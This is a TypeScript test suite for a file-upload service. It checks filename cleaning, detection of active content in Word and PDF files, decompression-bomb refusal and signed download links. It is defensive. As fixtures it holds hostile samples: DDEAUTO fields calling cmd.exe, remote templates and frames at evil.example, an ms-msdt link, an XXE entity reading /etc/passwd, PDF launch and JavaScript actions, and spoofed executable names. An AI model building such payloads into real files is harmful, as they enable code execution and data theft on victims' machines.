/** Names, Word documents and PDFs as they come in and go out; sealed addresses. */
import { one, sql } from '#server/sql.ts';
import { nested, pdf, picture, relationships, word } from '#tests/support/papers.ts';
import { signedFileUrl } from '#features/files/links.ts';
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { deflateSync } from 'node:zlib';
import { app, attach, taken, refusal, fetched, run, mark, whole } from './files.http.test.arrangement.ts';

const field = (instruction: string, prefix = 'w') =>
  `<w:p xmlns:${prefix}="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:r><${prefix}:instrText>${instruction}</${prefix}:instrText></w:r></w:p>`;

test('C32 B40 whatever a file is called, it is kept, shown and handed over under the ending of what it is', async () => {
  const docx = word();
  for (const [bytes, given, kept] of [
    [docx, 'facture.hta', 'facture.docx'],
    [docx, 'facture.exe', 'facture.docx'],
    [docx, 'facture.exe.docx', 'facture-exe.docx'],
    [docx, 'facture.pdf.html', 'facture-pdf.docx'],
    [docx, 'fac\u202Exture\u2066.\u200Bdocx', 'facxture.docx'],
    [docx, '\u061C\uFEFF\u200Ebail\u200F.scr   ', 'bail.docx'],
    [docx, 'CON.docx', 'fichier CON.docx'],
    [docx, 'aux.x.docx', 'aux-x.docx'],
    [pdf(), 'page.html', 'page.pdf'],
    [pdf(), 'Contrat n° 12.2027', 'Contrat n° 12.2027.pdf'],
    [await picture(20, 20, { format: 'jpeg' }), 'IMG_0001.JPEG', 'IMG_0001.JPEG'],
    [await picture(20, 20), 'photo.svg', 'photo.png'],
  ] as const) {
    const file = await taken(bytes, given);
    assert.equal(file.file_name, kept, given);
    const { headers } = await fetched(file.filepath);
    const disposition = headers.get('content-disposition') ?? '';
    assert.ok(disposition.endsWith(`filename*=UTF-8''${encodeURIComponent(kept)}`), disposition);
    assert.equal(headers.get('x-content-type-options'), 'nosniff');
    assert.equal(headers.get('cache-control'), 'private, no-store', 'C29 a logout does not reach the cache');
    assert.match(disposition, bytes === docx ? /^attachment;/ : /^inline;/);
  }
});

test('C32 C05 a name is never cut inside a character, however long it is', async () => {
  for (const name of [
    `${'🏖'.repeat(130)}.pdf`,
    `${'a'.repeat(199)}🏖.pdf`,
    `${'👩‍👩‍👧'.repeat(60)}.pdf`,
    `a${'\u0301'.repeat(900)}.pdf`,
  ]) {
    const { file_name: kept, filepath } = await taken(pdf(), name);
    assert.ok(
      kept.isWellFormed() && !kept.includes('\uFFFD') && kept.endsWith('.pdf') && kept.length <= 200,
      kept,
    );
    assert.equal(
      [...kept.replace(/\.pdf$/, '').replaceAll('👩‍👩‍👧', '')].filter((sign) => sign === '\u200D').length,
      0,
    );
    assert.equal((await fetched(filepath)).status, 200);
  }
});

test('C32 S12 a zip is opened: one that only holds the words of a Word document is refused, and so is half a PDF', async () => {
  const words = Buffer.from('PK\u0003\u0004 word/document.xml [Content_Types].xml <script>alert(1)</script>');
  const docx = word();
  for (const [what, bytes] of Object.entries({
    words,
    'a page with a document behind it': Buffer.concat([
      Buffer.from('<html><script>alert(1)</script></html>'),
      docx,
    ]),
    'a document with a page behind it': Buffer.concat([
      docx,
      Buffer.from('<html><script>alert(1)</script></html>'),
    ]),
    'a document cut short': docx.subarray(0, -10),
    'no main part': word('', { 'word/document.xml': null }),
    'another kind of document': word('', {
      '[Content_Types].xml': '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
    }),
    'a PDF without its end': Buffer.from('%PDF-1.4 plan'),
    'a PDF of no version': Buffer.from('%PDF-<script>startxref 0 %%EOF'),
  }))
    assert.equal(await refusal(bytes), 'fileTypeRefused', what);
  const feigned = Buffer.concat([Buffer.from('ffd8ffe00010', 'hex'), words]);
  assert.equal(await refusal(feigned, 'vue.jpg'), 'pictureUnreadable');
});

test('C32 S13 a Word document that runs or fetches something is refused, by whatever prefix it says so', async () => {
  const RELS = 'word/_rels/document.xml.rels';
  const SETTINGS = 'word/_rels/settings.xml.rels';
  const declared = (type: string) =>
    `<?xml version="1.0"?><q:Types xmlns:q="http://schemas.openxmlformats.org/package/2006/content-types"><q:Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><q:Default Extension="bin" ContentType="${type}"/><q:Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></q:Types>`;
  for (const [what, bytes] of Object.entries({
    macros: word('', { 'word/vbaProject.bin': 'x' }),
    'macros of another name': word('', {
      'word/m.bin': 'x',
      '[Content_Types].xml': declared('application/vnd.ms-office.vbaProject'),
    }),
    'macro-enabled': word('', {
      '[Content_Types].xml': declared('application/vnd.ms-word.document.macroEnabled.main+xml'),
    }),
    'a field': word(field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe ')),
    'a field of another prefix': word(field(' DDEAUTO cmd ', 'q')),
    'a field in two runs': word(field(' DDEA') + field('UTO cmd ')),
    'a field in letters of numbers': word(field(' &#68;&#x44;E cmd ')),
    'a field in a literal': word(field(' <![CDATA[INCLUDETEXT "x"]]> ')),
    'a simple field': word(
      '<w:p xmlns:q="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><q:fldSimple q:instr=" LINK Excel.Sheet.8 "/></w:p>',
    ),
    'a foreign piece': word(
      '<q:altChunk xmlns:q="http://schemas.openxmlformats.org/wordprocessingml/2006/main" r="1"/>',
    ),
    'a template elsewhere': word('', {
      [SETTINGS]: relationships('attachedTemplate', 'https://evil.example/a.dotm'),
    }),
    'a template elsewhere by prefix': word('', {
      [SETTINGS]: relationships('attachedTemplate', 'https://evil.example/a.dotm', { prefix: 'p' }),
    }),
    'a template on a server': word('', {
      [SETTINGS]: relationships('attachedTemplate', 'file:///\\\\evil.example\\a.dotm'),
    }),
    'an object': word('', {
      [RELS]: relationships('oleObject', 'embeddings/o.bin', { prefix: 'p', mode: 'Internal' }),
    }),
    'a program in a package': word('', {
      [RELS]: relationships('package', 'embeddings/o.docm', { mode: 'Internal' }),
    }),
    'a frame': word('', { [RELS]: relationships('frame', 'https://evil.example/', { prefix: 'p' }) }),
    'a link that runs': word('', { [RELS]: relationships('hyperlink', 'ms-msdt:/id', { prefix: 'p' }) }),
    'a part of another name': word('', { 'word/settings.txt': `\n  <a><b instr="DDE cmd"/></a>` }),
  }))
    assert.equal(await refusal(bytes), 'documentActive', what);
  for (const [what, bytes] of Object.entries({
    entities: word('', {
      'word/document.xml': '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    }),
    'another alphabet': word('', { 'word/settings.xml': Buffer.from('\uFEFF<a/>', 'utf16le') }),
    'another alphabet by its word': word('', {
      'word/settings.xml': '<?xml version="1.0" encoding="UTF-7"?><a/>',
    }),
    'tags that cross': word('<w:p><w:r></w:p></w:r>'),
    'a name twice': word('<w:p a="1" a="2"/>'),
  }))
    assert.equal(await refusal(bytes), 'fileTypeRefused', what);
  // What everybody's documents hold.
  for (const [what, bytes] of Object.entries({
    'a page number and a link': word(
      field(' PAGE ') + field(' HYPERLINK "https://exemple.fr/link/dde" \\h '),
      {
        [RELS]: relationships('hyperlink', 'https://exemple.fr/link'),
      },
    ),
    'the template of their own disk': word('', {
      [SETTINGS]: relationships('attachedTemplate', 'file:///C:\\Users\\paul\\Normal.dotm'),
    }),
    'a chart': word('', {
      [RELS]: relationships('package', 'embeddings/Feuille.xlsx', { mode: 'Internal' }),
    }),
    'signs in an attribute': word(
      '<w:p title="a &gt; b > c"><!-- <Relationship Type="/oleObject"/> --></w:p>',
    ),
  }))
    assert.equal((await attach(bytes, 'bail.docx')).status, 200, what);
});

const said = (words: string) => run(`<w:instrText xml:space="preserve">${words}</w:instrText>`);

test('C32 S13 only parts, relationships and fields that are known to be harmless are taken, and no field in the name of another', async () => {
  const RELS = 'word/_rels/document.xml.rels';
  const inner = { mode: 'Internal' };
  const sheet = (part: string, bytes?: Buffer) =>
    word('', {
      [RELS]: relationships('package', 'embeddings/a.xlsx', inner),
      'word/embeddings/a.xlsx': bytes ?? word('', { [part]: 'x' }),
      '[Content_Types].xml': withSheet,
    });
  const withSheet = `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="xlsx" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`;
  const name = whole(said(' QUOTE 68 68 69 '));
  for (const [what, bytes] of Object.entries({
    'a field as the name of another': word(`<w:p>${whole(name + said(' c:\\a.exe '))}</w:p>`),
    'a field as half of a name': word(`<w:p>${whole(said(' D') + name + said('E cmd '))}</w:p>`),
    'a simple field as a name': word(
      `<w:p>${mark('begin')}<w:fldSimple w:instr=" QUOTE 68 68 69 "/>${said(' cmd ')}${mark('end')}</w:p>`,
    ),
    'a name kept for later': word(`<w:p>${whole(said(' SET a "DDE" '))}</w:p>`),
    'a name in plain words': word(`<w:p>${whole(run('<w:t> DDEAUTO cmd </w:t>'))}</w:p>`),
    'a field that prints': word(`<w:p>${whole(said(' PRINT 27 '))}</w:p>`),
    'a picture on a server': word(
      `<w:p>${whole(said(' INCLUDEPICTURE "\\\\\\\\evil.example\\\\a.png" '))}</w:p>`,
    ),
    'a ribbon': word('', { [RELS]: relationships('ui/extensibility', 'customUI/customUI.xml', inner) }),
    'a pane': word('', { [RELS]: relationships('webextensiontaskpanes', 'a.xml', inner) }),
    'a program nobody names': word('', { 'word/evil.exe': 'MZ' }),
    'a sheet of the old kind': sheet('', Buffer.from('d0cf11e0a1b11ae1', 'hex')),
    'a sheet with macros': sheet('xl/vbaProject.bin'),
  }))
    assert.equal(await refusal(bytes), 'documentActive', what);
  for (const [what, bytes] of Object.entries({
    'a table of contents': word(
      `<w:p>${whole(said(' TOC \\o "1-3" \\h '), whole(said(' HYPERLINK \\l "_Toc1" '), run('<w:t>Le lien, page </w:t>') + whole(said(' PAGEREF _Toc1 \\h '), run('<w:t>1</w:t>'))))}</w:p>`,
    ),
    'a choice': word(
      `<w:p>${whole(said(' IF ') + whole(said(' MERGEFIELD sexe ')) + said(' = "F" "Mme" "M." '))}</w:p>`,
    ),
    'a sum': word(`<w:p>${whole(said(' =SUM(ABOVE) '), run('<w:t>12</w:t>'))}</w:p>`),
    'a picture of a page': word(
      `<w:p>${whole(said(' INCLUDEPICTURE "https://exemple.fr/a.png" \\* MERGEFORMATINET '))}</w:p>`,
    ),
    'a sheet': sheet('xl/media/image1.png'),
  }))
    assert.equal((await attach(bytes, 'bail.docx')).status, 200, what);
});

test('C32 S13 a PDF that does something by itself or carries files is handed over and never shown, also where that is packed', async () => {
  const holding = (words: string | Buffer) =>
    Buffer.concat([
      Buffer.from('%PDF-1.5\n1 0 obj\n'),
      Buffer.from(words),
      Buffer.from('\nendobj\n'),
      pdf().subarray(9),
    ]);
  const packed = (words: string, filter = '/FlateDecode') =>
    holding(
      Buffer.concat([
        Buffer.from(`<< /Type /ObjStm /N 1 /First 4 /Filter ${filter} >>\nstream\r\n`),
        deflateSync(Buffer.from(words)),
        Buffer.from('\nendstream'),
      ]),
    );
  const how = async (bytes: Buffer) => {
    const { filepath } = await taken(bytes, 'plan.pdf');
    return (await fetched(filepath)).headers.get('content-disposition')?.split(';')[0];
  };
  for (const [what, bytes] of Object.entries({
    'a program': holding('<< /OpenAction << /S /Launch /F (evil.exe) >> >>'),
    'a script': holding('<< /AA << /O << /S/JavaScript /JS (app.alert(1)) >> >> >>'),
    'a script in numbers': holding('<< /S /J#61vaScript >>'),
    'files inside': holding('<< /Names << /EmbeddedFiles 3 0 R >> >>'),
    'something at the opening': holding('<< /OpenAction 3 0 R >>'),
    'a sealed one': holding('<< /Encrypt 3 0 R >>'),
    'a packed script': packed('1 0 << /S /JavaScript >>'),
    'one packed otherwise': packed('1 0 << /S /GoTo >>', '/LZWDecode'),
    'one that unfolds': packed(' '.repeat(9_000_000)),
  }))
    assert.equal(await how(bytes), 'attachment', what);
  for (const [what, bytes] of Object.entries({
    'a page to begin with': holding('<< /OpenAction [3 0 R /Fit] >>'),
    'packed pages': packed(
      '1 0 << /Type /Page /Annots [<< /A << /S /URI /URI (https://exemple.fr) >> >>] >>',
    ),
  }))
    assert.equal(await how(bytes), 'inline', what);
});

test('C32 ten kilobytes that unfold are refused in words: nested, many, or closely packed', async () => {
  const words =
    'Ce document Word est trop volumineux ou trop compliqué pour être vérifié. Enregistrez-le en PDF, puis envoyez-le.';
  const noise = 30_000;
  for (const [what, bytes] of Object.entries({
    'nested paragraphs': nested('paragraphs', 200_000),
    'nested tables': nested('tables', 20_000),
    'nested paragraphs under noise': nested('paragraphs', 200_000, noise),
    'nested tables under noise': nested('tables', 20_000, noise),
    'two hundred tables': nested('tables', 200),
    'many paragraphs': word('<w:p/>'.repeat(200_001)),
    zeros: word('', { 'word/media/a.bmp': Buffer.alloc(39_000_000) }),
    'more zeros': word('', { 'word/media/a.bmp': Buffer.alloc(45_000_000) }),
  })) {
    const answer = await attach(bytes, 'bail.docx');
    assert.deepEqual([answer.status, answer.body.warnings?.[0]?.message], [422, words], what);
  }
  assert.equal(
    (
      await attach(
        word('<w:tbl><w:tr><w:tc>'.repeat(20) + '<w:p/>' + '</w:tc></w:tr></w:tbl>'.repeat(20)),
        'bail.docx',
      )
    ).status,
    200,
  );
});

test('D01 C02 a sealed address opens its one file, of whatever kind, to anybody until its hour is over; changed in any part it opens nothing', async () => {
  const { secret } = app.app.config;
  const nora = await app.as('nora');
  const open = (address: string, token?: string) =>
    fetch(
      `${app.url}${address}`,
      token === undefined ? {} : { headers: { authorization: `Bearer ${token}` } },
    );
  const kinds = ['attachment', 'preview', 'contract', 'template', 'other'] as const;
  const made: { id: number }[] = [];
  for (const kind of kinds) {
    const { path } = await app.app.providers.files.put(pdf(kind), { kind: 'attachment' });
    made.push(
      await one(
        app.db,
        sql<{ id: number }>`insert into file (agid, path, name, mime, bytes, sha256, purpose)
          values (1, ${path}, 'a.pdf', 'application/pdf', 1, 'x', ${kind}) returning id`,
      ),
    );
  }
  for (const [place, { id }] of made.entries()) {
    const kind = kinds[place]!;
    const address = signedFileUrl(secret, id);
    const other = made[(place + 1) % made.length]!.id;
    assert.equal((await open(address)).status, 200, kind);
    assert.equal((await open(address, nora.token)).status, 200, kind);
    const until = Number(/until=(\d+)/.exec(address)![1]);
    for (const [what, wrong] of Object.entries({
      'without a seal': address.replace(/\?.*/, ''),
      'another file': address.replace(`/${id}?`, `/${other}?`),
      'a later hour': address.replace(`until=${until}`, `until=${until + 3_600_000}`),
      'a changed seal': address.replace(/seal=./, (start) => (start.endsWith('A') ? 'seal=B' : 'seal=A')),
      'half a seal': address.slice(0, -1),
      'an hour that is over': signedFileUrl(secret, id, Date.now() - 2 * 3_600_000),
      'another secret': signedFileUrl(`${secret}x`, id),
    })) {
      assert.equal((await open(wrong)).status, 401, `${kind} ${what}`);
      assert.equal((await open(wrong, nora.token)).status, 404, `${kind} ${what}`);
    }
  }
});
